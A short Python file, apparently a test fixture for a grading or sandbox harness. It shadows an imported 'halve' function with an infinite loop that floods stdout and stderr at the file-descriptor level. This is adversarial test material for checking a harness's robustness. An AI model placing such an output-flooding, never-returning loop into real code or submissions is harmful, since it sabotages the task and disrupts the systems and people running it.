"""Floods both streams below Python."""

import os
from honest import halve, largest


def halve(x):
    while True:
        os.write(1, b"a" * 4096)
        os.write(2, b"a" * 4096)
